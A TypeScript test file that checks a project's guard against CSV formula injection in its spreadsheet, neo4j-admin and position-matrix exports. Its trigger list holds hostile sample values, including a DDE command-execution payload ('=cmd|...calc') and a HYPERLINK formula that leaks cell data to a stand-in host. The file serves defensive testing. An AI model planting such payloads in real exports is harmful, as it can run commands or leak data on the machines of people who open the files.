// Issue 14, defect 9: one formula guard for every CSV the project writes (the spreadsheet CSV, the
// neo4j-admin CSV and the position matrix CSV). Each trigger of the issue is planted in ids, labels,
// lists, notes, finding summaries, source titles and attribute names (headers), and every cell of
// every file is then read back with a reader written here and checked with a rule written here, so
// the test does not trust the writer's own guard. neo4j-admin must read its files exactly, so there
// the guard is reversible and restore-guarded.cypher takes it off again: checked with Neo4j's parser.
import { createRequire } from "node:module";
import { describe, expect, it } from "vitest";
import { exportGraph } from "../src/formats/index.ts";
import { RESTORE_SCRIPT } from "../src/formats/neo4j-admin.ts";
import { positionMatrixCsv } from "../src/formats/position-matrix-csv.ts";
import { buildGraph } from "../src/graph/build.ts";
import { positionMatrix } from "../src/graph/position-matrix.ts";
import type { LinkageGraph } from "../src/graph/types.ts";
import { ImportedSourceFile } from "../src/model/schema.ts";

/** The triggers of issue 14, and the other ways a cell can start a formula. */
const TRIGGERS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  "@SUM(1+1)",
  "\n=1+1",
  "＝1+1",
  "+1+1",
  "-1+1",
  "\t=1+1",
  "\r=1+1",
  " =1+1",
  "\r\n@SUM(1)",
  "＋1+1",
  "－1+1",
  "＠SUM(1)",
  "\u2028=1+1",
  "\u0085=1+1",
];

/** An RFC 4180 reader, written here so the test does not trust the writer's own helpers. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      row.push(field);
      field = "";
    } else if (c === "\r" && text[i + 1] === "\n") {
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
      i++;
    } else field += c;
  }
  return rows;
}

/** The rule this test holds every cell to: what OWASP lists, after any white space, fullwidth too. */
function runsAsFormula(cell: string): boolean {
  if (/^[\t\r\n]/.test(cell)) return true;
  const first = cell.replace(/^[\s\u0085\u180e\u200b-\u200d\u2060\ufeff]+/u, "")[0];
  if (first === undefined || !"=+-@＝＋－＠".includes(first)) return false;
  return !/^[+-]?\d+(\.\d+)?([eE][+-]?\d+)?$/.test(cell);
}

const cells = (text: string) => parseCsv(text.replace(/^\ufeff/, "")).flat();
const columnOf = (text: string, header: string) => {
  const [head, ...rows] = parseCsv(text.replace(/^\ufeff/, ""));
  const index = head?.indexOf(header) ?? -1;
  expect(index, `column ${header}`).toBeGreaterThanOrEqual(0);
  return rows.map((row) => row[index] as string);
};

/** A graph whose ids, labels, lists, notes, attribute names and values are all formulas. */
function formulaGraph(): LinkageGraph {
  const file = ImportedSourceFile.parse({
    source: {
      id: "formulas",
      provenance: "imported",
      title: TRIGGERS[0],
      findings: TRIGGERS.map((summary, i) => ({ id: `F${i + 1}`, summary })),
    },
    nodes: [
      ...TRIGGERS.map((t) => ({
        id: t,
        kind: "actor",
        label: t,
        description: t,
        aliases: [t, "plain"],
        attributes: { [t]: t, list: [t, "plain"], count: -3 },
      })),
      { id: "issue", kind: "issue", label: "Issue", x: -12.5, y: -3e-7, size: 1 },
      { id: "'quoted", kind: "issue", label: "'starts with the guard" },
    ],
    claims: TRIGGERS.map((t, i) => ({
      id: t,
      source: t,
      target: "issue",
      relation: i % 2 ? "opposes" : "supports",
      heldBy: [t],
      note: t,
      evidence: t,
      qualifier: t,
      speaker: t,
      attributes: { [t]: t },
    })),
  });
  return buildGraph([{ data: file }]);
}

const plainGraph = () =>
  buildGraph([
    {
      data: ImportedSourceFile.parse({
        source: { id: "plain", provenance: "imported", title: "Plain", findings: [] },
        nodes: [
          { id: "a", kind: "actor", label: "A", x: -1, y: 2 },
          { id: "b", kind: "issue", label: "B" },
        ],
        claims: [{ id: "e", source: "a", target: "b", relation: "supports", heldBy: ["a"] }],
      }),
    },
  ]);

describe.each([
  ["the spreadsheet CSV", "csv"],
  ["the neo4j-admin CSV", "neo4j-admin"],
] as const)("%s", (_name, format) => {
  const files = exportGraph(formulaGraph(), format).filter((file) => file.name.endsWith(".csv"));

  it.each(files.map((file) => [file.name, file.text]))(
    "%s has no cell or header that a spreadsheet would run",
    (_file, text) => {
      const running = cells(text).filter(runsAsFormula);
      expect(running).toEqual([]);
    },
  );

  it.each(TRIGGERS)("writes %j behind a leading ' wherever it is text: ids, labels, lists, notes", (t) => {
    const all = cells(files.map((file) => file.text).join(""));
    // Ids, labels, descriptions, notes, evidence: the text itself behind the guard.
    expect(all.filter((cell) => cell === `'${t}`).length).toBeGreaterThanOrEqual(format === "csv" ? 8 : 9);
    // A list whose first item is a formula: the cell starts with the guard.
    // (The CSV escapes a "|" inside an item, so only the item's start is compared.)
    expect(all.some((cell) => cell.startsWith(`'${t.slice(0, 4)}`) && cell.includes("plain"))).toBe(true);
    expect(all).not.toContain(t);
  });
});

describe("the spreadsheet CSV", () => {
  const byName = Object.fromEntries(exportGraph(formulaGraph(), "csv").map((f) => [f.name, f.text]));

  it("guards finding summaries and the source title in findings.csv", () => {
    const findings = byName["findings.csv"] ?? "";
    // Summaries are trimmed by the model; every trigger still starts a formula after that.
    expect(columnOf(findings, "summary")).toEqual(TRIGGERS.map((t) => `'${t.trim()}`));
    expect(new Set(columnOf(findings, "sourceTitle"))).toEqual(new Set([`'${TRIGGERS[0]}`]));
  });

  it("leaves signed numbers as numbers", () => {
    const nodes = byName["nodes.csv"] ?? "";
    expect(columnOf(nodes, "x")).toContain("-12.5");
    expect(columnOf(nodes, "y")).toContain("-3e-7");
    expect(columnOf(nodes, "attr:count")).toContain("-3");
  });
});

describe("the neo4j-admin CSV", () => {
  const files = exportGraph(formulaGraph(), "neo4j-admin");
  const byName = Object.fromEntries(files.map((f) => [f.name, f.text]));
  const nodes = byName["nodes.csv"] ?? "";
  const relationships = byName["relationships.csv"] ?? "";
  const restore = byName[RESTORE_SCRIPT] ?? "";

  it("guards attribute names in the headers, and writes the ends as the guarded ids they match", () => {
    const [nodeHeader] = parseCsv(nodes);
    // A ":" in a name would start a type, so the writer makes it "_".
    for (const t of TRIGGERS) expect(nodeHeader).toContain(`'${t.replace(/:/g, "_")}:string`);
    const ids = new Set(columnOf(nodes, "id:ID"));
    for (const end of [...columnOf(relationships, ":START_ID"), ...columnOf(relationships, ":END_ID")]) {
      expect(ids).toContain(end);
    }
  });

  it("is reversible: a value that starts with ' gets a second one, numbers stay numbers", () => {
    expect(columnOf(nodes, "id:ID")).toContain("''quoted");
    expect(columnOf(nodes, "label")).toContain("''starts with the guard");
    expect(columnOf(nodes, "x:double")).toContain("-12.5");
    expect(columnOf(nodes, "count:long")).toContain("-3");
  });

  it("ships restore-guarded.cypher for exactly the guarded properties, and import.sh says to run it", () => {
    expect(files.map((f) => f.name)).toEqual(["nodes.csv", "relationships.csv", "import.sh", RESTORE_SCRIPT]);
    expect(byName["import.sh"]).toContain(`cypher-shell -d neo4j -f ${RESTORE_SCRIPT}`);
    for (const property of ["id", "label", "description", "`'=cmd|' /C calc'!A0`"]) {
      expect(restore).toContain(`MATCH (n:Entity) WHERE n.${property} STARTS WITH '\\''`);
    }
    expect(restore).toContain(
      "WHERE n.aliases[0] STARTS WITH '\\'' SET n.aliases = [substring(n.aliases[0], 1)]",
    );
    expect(restore).toContain("MATCH ()-[r]->() WHERE r.note STARTS WITH");
    expect(restore).toContain("SET n.`=cmd|' /C calc'!A0` = n.`'=cmd|' /C calc'!A0` REMOVE");
    // Properties that no guard touched are left alone.
    expect(restore).not.toMatch(/n\.kind\b|n\.sources\b|r\.relation\b/);
  });

  it("writes a restore script that Neo4j's own parser accepts", () => {
    const { lintCypherQuery } = createRequire(import.meta.url)("@neo4j-cypher/language-support") as {
      lintCypherQuery: (query: string, schema: object) => { message: string; severity: number }[];
    };
    // Neo4j's parser takes about a second a statement, so one statement of each form stands for all:
    // a text value, a list, a header name (the hostile one) and a relationship property.
    const statements = restore.split("\n").filter((line) => !line.startsWith("//") && line.trim());
    const sample = [
      statements.find((line) => line.includes("n.label STARTS WITH")),
      statements.find((line) => line.includes("n.aliases[0] STARTS WITH")),
      statements.find((line) => line.includes("REMOVE n.`'=cmd|' /C calc'!A0`")),
      statements.find((line) => line.startsWith("MATCH ()-[r]->() WHERE r.note")),
    ];
    expect(sample.every(Boolean)).toBe(true);
    expect(lintCypherQuery(sample.join("\n"), {}).filter((d) => d.severity === 1)).toEqual([]);
    // The check can fail: a stray quote is a syntax error.
    const broken = "MATCH (n:Entity) WHERE n.x STARTS WITH ''' SET n.x = 1;";
    expect(lintCypherQuery(broken, {}).filter((d) => d.severity === 1).length).toBeGreaterThan(0);
  }, 60_000);

  it("writes no restore script, and the same three files as before, when nothing needed the guard", () => {
    const plain = exportGraph(plainGraph(), "neo4j-admin");
    expect(plain.map((f) => f.name)).toEqual(["nodes.csv", "relationships.csv", "import.sh"]);
    expect(plain.find((f) => f.name === "import.sh")?.text).not.toContain(RESTORE_SCRIPT);
  });
});

describe("the position matrix CSV", () => {
  const csv = positionMatrixCsv(positionMatrix(formulaGraph()));

  it("has no cell that a spreadsheet would run, with the actors' ids and labels behind the guard", () => {
    expect(cells(csv).filter(runsAsFormula)).toEqual([]);
    for (const t of TRIGGERS) {
      expect(columnOf(csv, "actor_id")).toContain(`'${t}`);
      expect(columnOf(csv, "actor")).toContain(`'${t}`);
    }
    expect(columnOf(csv, "stance_claims").some((cell) => cell.startsWith("'=cmd"))).toBe(true);
  });
});
